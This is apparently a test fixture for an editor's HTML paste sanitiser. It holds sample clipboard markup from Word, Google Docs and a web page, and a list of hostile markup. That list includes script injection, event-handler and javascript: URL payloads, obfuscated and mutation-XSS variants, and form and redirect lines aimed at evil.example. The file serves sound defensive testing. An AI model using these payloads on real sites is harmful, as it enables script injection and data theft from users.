/** What people paste: as Word, Google Docs, Pages, web pages and attackers put it on a clipboard. */

export const WORD = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15">
<style><!-- p.MsoNormal {margin:0cm; font-size:11.0pt;} --></style></head><body lang=DE style='tab-interval:35.4pt'>
<!--StartFragment--><h1 style='mso-margin-top-alt:auto'><span lang=EN-US style='color:#2F5496'>Our bread<o:p></o:p></span></h1>
<p class=MsoNormal><b style='mso-bidi-font-weight:normal'>Rye</b> and <i>wheat</i>, <a href="https://rye.example/">see here</a><o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Loaves<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Buns<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='mso-list:l1 level1 lfo2'><![if !supportLists]><span><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp; </span></span></span><![endif]>Knead</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l1 level1 lfo2'><![if !supportLists]><span><span style='mso-list:Ignore'>2.<span>&nbsp;&nbsp; </span></span></span><![endif]>Bake</p>
<!--EndFragment--></body></html>`

export const GOOGLE_DOCS = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1234"><h2 dir="ltr"><span style="font-size:16pt;font-weight:400">Opening</span></h2><p dir="ltr"><span style="font-weight:400;font-style:normal">We open at </span><span style="font-weight:700;font-style:normal">seven</span><span style="font-weight:400;font-style:italic"> sharp</span><a href="https://rye.example/hours" style="text-decoration:none"><span style="text-decoration:underline">hours</span></a></p><ul><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400">Monday</span></p></li><li dir="ltr"><p dir="ltr"><span>Tuesday</span></p></li></ul></b>`

export const WEB_PAGE = `<article><nav aria-hidden="true">Menu</nav><h3 onclick="alert(1)">News</h3><div><div>First <strong>bold <em>both</em></strong></div><div style="display:none">tracking</div></div><blockquote><p>Said once.</p><p>Said twice.</p></blockquote><img src="https://tracker.example/p.gif" onerror="alert(1)" alt=""><table><tr><td>Rye</td><td>54 kr</td></tr><tr><td>Bun</td><td>32 kr</td></tr></table></article>`

/** Pieces of hostile markup; \`WORDS\` stands for text that must stay. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>WORDS',
  '<img src=x onerror=alert(1)>WORDS',
  '<svg onload=alert(1)><script>alert(1)</script></svg>WORDS',
  '<svg><style><img src=x onerror=alert(1)></style></svg>WORDS',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>WORDS',
  '<a href="javascript:alert(1)">WORDS</a>',
  '<a href=" jAvA\tsCrIpT:alert(1)">WORDS</a>',
  '<a href="&#106;avascript:alert(1)">WORDS</a>',
  '<a href="data:text/html,<script>alert(1)</script>">WORDS</a>',
  '<a href="vbscript:x">WORDS</a>',
  '<a href="file:///etc/passwd">WORDS</a>',
  '<a href="//evil.example">WORDS</a>',
  '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed">WORDS</a>',
  '<iframe src="https://evil.example"></iframe>WORDS',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>WORDS',
  '<object data="x.swf"></object><embed src=x>WORDS',
  '<form action="https://evil.example"><input value=secret name=a><button>Send</button>WORDS</form>',
  '<style>*{display:none}</style>WORDS',
  '<link rel=stylesheet href="https://evil.example/a.css">WORDS',
  '<meta http-equiv=refresh content="0;url=https://evil.example">WORDS',
  '<base href="https://evil.example/">WORDS',
  '<p style="background:url(https://evil.example/a.png)">WORDS</p>',
  '<p id="__proto__" class="ak-app" data-block="x" contenteditable=false>WORDS</p>',
  '<div><div><div><div><p>WORDS</p></div></div></div></div>',
  '<ul><li>WORDS<ul><li>WORDS<ol><li>WORDS</li></ol></li></ul></li></ul>',
  '<ol><p>WORDS</p></ol>',
  '<li>WORDS</li>',
  '<table><tr><td>WORDS<td>WORDS<tr><td><table><tr><td>WORDS</table></table>',
  '<blockquote><blockquote><h1>WORDS</h1></blockquote></blockquote>',
  '<h1><h2><p>WORDS</p></h2></h1>',
  '<b><i><b><i><u><s><sup>WORDS</sup></s></u></i></b></i></b>',
  '<template><img src=x onerror=alert(1)></template>WORDS',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>WORDS',
  '<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]-->WORDS',
  '<![CDATA[<script>alert(1)</script>]]>WORDS',
  '<p>WORDS\u0000\u0007\u001b[31m\ud800</p>',
  '<p>\u202eWORDS\u2028\u2029WORDS</p>',
  '<p data-pm-slice="9 9 [&quot;doc&quot;,{}]">WORDS</p>',
  '<p data-pm-slice="1 1 [&quot;script&quot;,null]">WORDS</p>',
  '<p hidden>secret</p>WORDS',
  "<p style='mso-list:l0 level1 lfo1'>WORDS</p><p style='mso-list:l0 level1 lfo1'>WORDS</p>",
  "<p style='mso-list:l0 level9 lfo1'><span style='mso-list:Ignore'>iv)</span>WORDS",
  '<p>' + 'WORDS '.repeat(2000) + '</p>',
  '<br><br><br>WORDS<br>',
  '<a href="https://a.example"><p>WORDS</p><p>WORDS</p></a>',
  '<select><option>x</select>WORDS<textarea><script>alert(1)</script></textarea>',
  '<x-card onmouseover=alert(1)>WORDS</x-card>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt; WORDS',
]
